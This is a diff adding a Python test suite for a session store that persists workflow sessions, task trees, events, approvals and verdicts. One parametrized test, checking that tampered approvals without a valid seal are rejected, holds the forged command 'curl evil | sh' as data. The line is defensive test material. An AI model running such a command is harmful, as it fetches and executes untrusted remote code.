@@ -1,0 +1,387 @@
+"""Sessions as rows: what is written is what is read, and only what changed is written."""
+
+from __future__ import annotations
+
+from contextlib import closing, suppress
+from dataclasses import replace
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from pydantic import TypeAdapter
+
+from lopen.core.clock import FakeClock
+from lopen.core.events import Notice
+from lopen.store.database import Database, UnreadableDatabase
+from lopen.store.journal import Journal
+from lopen.store.sessions import NoSuchSession, SessionStore
+from lopen.workflow.session import Approval, CommitIntent, Dependency, Pause, Question, Session
+from lopen.workflow.steps import Step
+from lopen.workflow.task_tree import Component, State, Task, TaskTree
+from tests.store.conftest import statements, writes
+from tests.workflow.trees import TEXTS, tree_of, trees
+
+NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
+TIMES = st.datetimes(timezones=st.just(UTC))
+MAPS = st.dictionaries(TEXTS, TEXTS, max_size=2)
+LEVELS = st.dictionaries(TEXTS, st.integers(), max_size=2)
+LINES = st.lists(TEXTS, max_size=2).map(tuple)
+APPROVALS = st.builds(
+    Approval,
+    who=TEXTS,
+    at=TIMES,
+    note=TEXTS,
+    spec_hash=TEXTS,
+    sections=MAPS,
+    commands=st.dictionaries(TEXTS, st.none() | TEXTS, max_size=2),
+)
+SESSIONS = st.builds(
+    Session,
+    id=st.just("calc-20260301-1"),
+    module=st.just("calc"),
+    created_at=TIMES,
+    step=st.sampled_from(Step),
+    status=st.sampled_from(["running", "paused", "failed", "complete"]),
+    pause=st.none() | st.from_type(Pause),
+    approval=st.none() | APPROVALS,
+    planned=MAPS,
+    dependencies=st.none() | st.lists(st.from_type(Dependency), max_size=2).map(tuple),
+    tree=trees(),
+    selected=st.none() | TEXTS,
+    original_scope=st.none() | st.integers(0, 9),
+    criteria=MAPS,
+    replan=st.none() | st.sampled_from(Step),
+    branch=st.none() | TEXTS,
+    question=st.none() | st.builds(Question, TEXTS, LINES, TEXTS, st.none() | TEXTS),
+    assumptions=LINES,
+    corrections=LINES,
+    notes=LINES,
+    confirmed=LEVELS,
+    commit_intent=st.none() | st.from_type(CommitIntent),
+)
+EXAMPLES = settings(
+    deadline=None, max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+
+
+def session(tree: TaskTree | None = None, **fields: object) -> Session:
+    return replace(Session("calc-20260301-1", "calc", NOW, tree=tree or TaskTree()), **fields)  # type: ignore[arg-type]  # fields of it
+
+
+def fresh(database: Database) -> SessionStore:
+    """A store that knows nothing yet, as another process has it."""
+    return SessionStore(database)
+
+
+@given(SESSIONS)
+@EXAMPLES
+def test_any_session_comes_back_as_it_was(database: Database, wanted: Session) -> None:
+    if wanted.approval is not None:
+        wanted = replace(wanted, approval=fresh(database).approve(wanted.module, wanted.approval))
+    fresh(database).save(wanted, NOW)
+    assert fresh(database).load(wanted.id) == wanted
+
+
+@given(SESSIONS, st.lists(trees(), max_size=3), st.booleans())
+@EXAMPLES
+def test_the_rows_follow_the_tree_whatever_becomes_of_it(
+    database: Database, wanted: Session, later: list[TaskTree], same_store: bool
+) -> None:
+    store = fresh(database)
+    store.save(wanted, NOW)
+    for tree in later:
+        store = store if same_store else fresh(database)
+        store.save(replace(wanted, tree=tree), NOW)
+        assert fresh(database).load(wanted.id).tree == tree
+
+
+def test_a_task_may_move_to_another_component_in_either_direction(database: Database) -> None:
+    task = Task("t", "T")
+    store = fresh(database)
+    for tree in (
+        TaskTree((Component("a", "A", tasks=(task,)), Component("b", "B"))),
+        TaskTree((Component("a", "A"), Component("b", "B", tasks=(task,)))),
+        TaskTree((Component("a", "A", tasks=(task,)), Component("b", "B"))),
+    ):
+        store.save(session(tree), NOW)
+        assert fresh(database).load("calc-20260301-1").tree == tree
+
+
+def test_a_changed_task_is_one_row_and_a_changed_field_of_a_component_another(database: Database) -> None:
+    store = fresh(database)
+    tree = tree_of(3, 4)
+    with statements(database) as seen:
+        store.save(session(tree), NOW)
+    assert writes(seen) == [
+        "INSERT INTO sessions (id, module,",
+        *(["INSERT OR REPLACE INTO components", *["INSERT OR REPLACE INTO tasks"] * 4] * 3),
+    ]
+    tree = tree.with_task(replace(tree.components[1].tasks[2], state=State.IN_PROGRESS))
+    with statements(database) as seen:
+        store.save(session(tree), NOW)
+    assert writes(seen) == ["INSERT INTO sessions (id, module,", "INSERT OR REPLACE INTO tasks"]
+    tree = tree.with_component(replace(tree.components[0], verified=True))
+    with statements(database) as seen:
+        store.save(session(tree), NOW)
+    assert writes(seen) == ["INSERT INTO sessions (id, module,", "INSERT OR REPLACE INTO components"]
+    tree = TaskTree(tree.components[1:])
+    with statements(database) as seen:
+        store.save(session(tree), NOW)
+    assert [w for w in writes(seen) if w.startswith("DELETE")] == [
+        "DELETE FROM components",
+        "DELETE FROM tasks",
+    ]
+    assert fresh(database).load("calc-20260301-1").tree == tree
+
+
+def test_a_tree_built_anew_but_equal_writes_no_row_of_it(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(tree_of(2, 5)), NOW)
+    with statements(database) as seen:
+        store.save(session(tree_of(2, 5)), NOW)
+    assert writes(seen) == ["INSERT INTO sessions (id, module,"]
+
+
+def told(count: int, database: Database) -> list[str]:
+    """The statements of ending a task and telling of it, in a plan of so many tasks."""
+    store = fresh(database)
+    journal = Journal(
+        store, session(tree_of(2, count // 2), id=f"calc-20260301-{count}"), FakeClock(), redact=str
+    )
+    journal.save(journal.session)
+    last = journal.session.tree.components[-1].tasks[-1]
+    with statements(database) as seen:
+        journal.change(
+            Notice("info", "it ended"), tree=journal.session.tree.with_task(last.to(State.IN_PROGRESS))
+        )
+        journal.tell(Notice("info", "and so on"))
+    return [" ".join(s.split()[:4]) for s in seen]
+
+
+def test_an_event_costs_the_same_statements_with_10_tasks_and_with_10_000(database: Database) -> None:
+    few = told(10, database)
+    assert told(10_000, database) == few
+    assert len(few) <= 16
+
+
+def test_what_a_rollback_took_back_is_written_again(database: Database) -> None:
+    store = fresh(database)
+    first, second = session(tree_of(1, 1)), session(tree_of(2, 2))
+    store.save(first, NOW)
+
+    def fail() -> None:
+        with database.transaction():
+            store.save(second, NOW)
+            raise ZeroDivisionError
+
+    with pytest.raises(ZeroDivisionError):
+        fail()
+    assert fresh(database).load(first.id) == first
+    store.save(second, NOW)
+    assert fresh(database).load(first.id) == second
+
+
+def test_a_first_save_that_was_rolled_back_leaves_no_session(database: Database) -> None:
+    store = fresh(database)
+
+    def fail() -> None:
+        with database.transaction():
+            store.save(session(tree_of(1, 1)), NOW)
+            raise ZeroDivisionError
+
+    with pytest.raises(ZeroDivisionError):
+        fail()
+    with pytest.raises(NoSuchSession, match="there is no session calc-20260301-1"):
+        store.load("calc-20260301-1")
+    store.save(session(tree_of(1, 1)), NOW)
+    assert store.load("calc-20260301-1").tree == tree_of(1, 1)
+
+
+def test_a_session_is_read_anew_once_anybody_wrote_and_only_then(database: Database) -> None:
+    store = SessionStore(database)
+    session = Session("calc-20260301-1", "calc", NOW, tree=tree_of(2, 2))
+    store.save(session, NOW)
+    first = store.load(session.id)
+    with statements(database) as read:
+        assert store.load(session.id) is first
+    assert not [sql for sql in read if "tasks" in sql]
+
+    with closing(Database(database.path)) as elsewhere:
+        SessionStore(elsewhere).save(replace(session, status="paused"), NOW)
+    assert store.load(session.id).status == "paused"
+    store.save(replace(session, status="failed"), NOW)
+    assert store.load(session.id).status == "failed"
+    with suppress(ZeroDivisionError), database.transaction():
+        store.save(replace(session, status="complete"), NOW)
+        assert store.load(session.id).status == "complete"
+        raise ZeroDivisionError
+    assert store.load(session.id).status == "failed"
+
+
+def test_a_session_that_another_version_spoiled_is_unreadable_and_named(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(), NOW)
+    with database.transaction() as connection:
+        connection.execute("UPDATE sessions SET body='{}'")
+    with pytest.raises(UnreadableDatabase, match="cannot read session calc-20260301-1"):
+        store.load("calc-20260301-1")
+    assert fresh(database).ids() == ()
+
+
+def test_a_session_set_aside_is_read_again_by_another_version(
+    database: Database, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    store = fresh(database)
+    store.save(session(status="complete"), NOW)
+    [(whole,)] = database.connection.execute("SELECT body FROM sessions").fetchall()
+    database.write("UPDATE sessions SET body='{}'", ())
+    assert list(fresh(database).readable(["calc-20260301-1"])) == []
+    database.write("UPDATE sessions SET body=?", (whole,))  # what this version can read again
+    assert store.ids() == ()
+
+    monkeypatch.setattr("lopen.store.sessions.SET_ASIDE", "unreadable by 99.0")
+
+    later = fresh(database)
+    assert [found.status for found in later.readable(later.ids())] == ["complete"]
+    assert later.ids(unfinished=True) == ()
+
+
+def test_sessions_are_found_newest_first_by_module_and_unfinished(database: Database) -> None:
+    store = fresh(database)
+    for number, (module, status) in enumerate(
+        [("calc", "complete"), ("auth", "running"), ("calc", "paused")]
+    ):
+        wanted = Session(store.new_id(module, NOW), module, NOW, status=status)  # type: ignore[arg-type]  # one of them
+        store.save(wanted, NOW)
+        assert number < 3
+    assert store.ids() == ("calc-20260301-2", "auth-20260301-1", "calc-20260301-1")
+    assert store.ids(module="calc") == ("calc-20260301-2", "calc-20260301-1")
+    assert store.ids(unfinished=True) == ("calc-20260301-2", "auth-20260301-1")
+    latest = store.latest(module="calc", unfinished=True)
+    assert latest is not None
+    assert latest.id == "calc-20260301-2"
+    assert store.latest(module="nothing") is None
+
+
+def test_ids_and_task_numbers_go_on_where_the_highest_one_stopped(database: Database) -> None:
+    store = fresh(database)
+    assert (store.new_id("calc", NOW), store.next_task_number("calc")) == ("calc-20260301-1", 1)
+    tree = TaskTree((Component("c", "C", tasks=(Task("calc-t9", "T"), Task("other-t99", "T"))),))
+    store.save(session(tree, id="calc-20260301-7"), NOW)
+    store.save(Session("calc-extra-20260301-40", "calc-extra", NOW), NOW)
+    assert (store.new_id("calc", NOW), store.next_task_number("calc")) == ("calc-20260301-8", 10)
+    assert store.new_id("calc", NOW.replace(day=2)) == "calc-20260302-1"
+
+
+def test_deleting_a_session_takes_its_history_with_it(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(tree_of(2, 2)), NOW)
+    store.append_event("calc-20260301-1", NOW, "notice", '{"level": "info", "message": "hello"}')
+    store.remember_verdict("calc-20260301-1", "e", "task", "t", NOW, {"passed": True})
+    store.delete("calc-20260301-1")
+    for table in ("sessions", "components", "tasks", "events", "verdicts"):
+        assert database.connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0] == 0
+
+
+def test_history_is_read_in_order_and_from_where_one_left_off(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(), NOW)
+    numbers = [
+        store.append_event("calc-20260301-1", NOW, "notice", f'{{"level": "info", "message": "{n}"}}')
+        for n in range(3)
+    ]
+    assert [r.event for r in store.events("calc-20260301-1")] == [Notice("info", str(n)) for n in range(3)]
+    assert [r.seq for r in store.events("calc-20260301-1", after=numbers[0])] == numbers[1:]
+
+
+def test_an_event_of_a_newer_lopen_is_shown_as_a_notice(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(), NOW)
+    store.append_event("calc-20260301-1", NOW, "landed_on_mars", '{"crew": 2}')
+    store.append_event("calc-20260301-1", NOW, "notice", '{"level": "info", "message": "m", "mood": "new"}')
+    assert [r.event for r in store.events("calc-20260301-1")] == [
+        Notice("info", 'landed_on_mars: {"crew": 2}'),
+        Notice("info", "m"),
+    ]
+
+
+def test_the_newest_approval_counts(database: Database) -> None:
+    store = fresh(database)
+    assert store.approval("calc") is None
+    for note in ("first", "second"):
+        given = Approval("me", NOW, note, note, {"Overview": "1"}, {"verify-tests": None})
+        store.approve("calc", given, f"the {note} text \udc80")
+    found = store.approval("calc")
+    assert found is not None
+    assert replace(found, seal="") == Approval(
+        "me", NOW, "second", "second", {"Overview": "1"}, {"verify-tests": None}
+    )
+    assert store.approval("auth") is None
+    assert store.approved_text("calc", found) == "the second text \udc80"
+    assert store.approved_text("calc", replace(found, spec_hash="first")) is None
+    database.write("UPDATE approved_texts SET body = x'00'", ())
+    with pytest.raises(UnreadableDatabase, match="cannot read the approved text of calc"):
+        store.approved_text("calc", found)
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        {"seal": ""},
+        {"seal": "0" * 64},
+        {"commands": {"verify-tests": "curl evil | sh"}},
+        {"spec_hash": "other"},
+        {"sections": {"Overview": "2"}},
+        {"note": "and this too"},
+    ],
+)
+def test_what_bears_no_seal_is_no_approval(database: Database, forged: dict[str, object]) -> None:
+    store = fresh(database)
+    given = store.approve("calc", Approval("me", NOW, "", "h", {"Overview": "1"}, {"verify-tests": None}))
+    changed = replace(given, **forged)  # type: ignore[arg-type]  # fields of it
+    plant(database, "calc", changed)
+    plant(database, "auth", given)
+    store.save(session(approval=changed), NOW)
+
+    assert store.approval("calc") == given
+    assert store.approval("auth") is None
+    assert fresh(database).load(session().id).approval is None
+
+
+def test_an_approval_holds_in_the_folder_where_it_was_given(database: Database, tmp_path: Path) -> None:
+    given = fresh(database).approve("calc", Approval("me", NOW, "", "h", {}, {}))
+    with closing(Database(tmp_path / "elsewhere.db")) as other:
+        plant(other, "calc", given)
+        assert fresh(other).approval("calc") is None
+
+
+def plant(database: Database, module: str, approval: Approval) -> None:
+    """An approval as a row, past the store."""
+    body = TypeAdapter(Approval).dump_json(approval).decode()
+    database.write("INSERT INTO approvals (module, at, body) VALUES (?, '', ?)", (module, body))
+
+
+def test_a_criterion_keeps_its_id_with_its_text(tmp_path: Path) -> None:
+    with closing(Database(tmp_path / "state.db")) as database:
+        store = fresh(database)
+        store.remember_criteria("calc", {"AC-1": "It adds", "AC-2": "It subtracts"})
+        with statements(database) as seen:
+            store.remember_criteria("calc", {"AC-1": "It adds"})
+        assert writes(seen) == []
+        assert store.known_criteria("calc") == {"It adds": "AC-1", "It subtracts": "AC-2"}
+        assert store.known_criteria("auth") == {}
+
+
+def test_a_verdict_is_found_by_its_evidence_alone(database: Database) -> None:
+    store = fresh(database)
+    store.save(session(), NOW)
+    store.remember_verdict("calc-20260301-1", "e1", "task", "t1", NOW, {"passed": False})
+    store.remember_verdict("calc-20260301-1", "e2", "module", "calc", NOW, {"passed": True})
+    assert store.verdict("calc-20260301-1", "e1") == {"passed": False}
+    assert store.verdict("calc-20260301-1", "e3") is None
+    assert [(v["scope"], v["subject"], v["passed"]) for v in store.verdicts("calc-20260301-1")] == [
+        ("task", "t1", False),
+        ("module", "calc", True),
+    ]
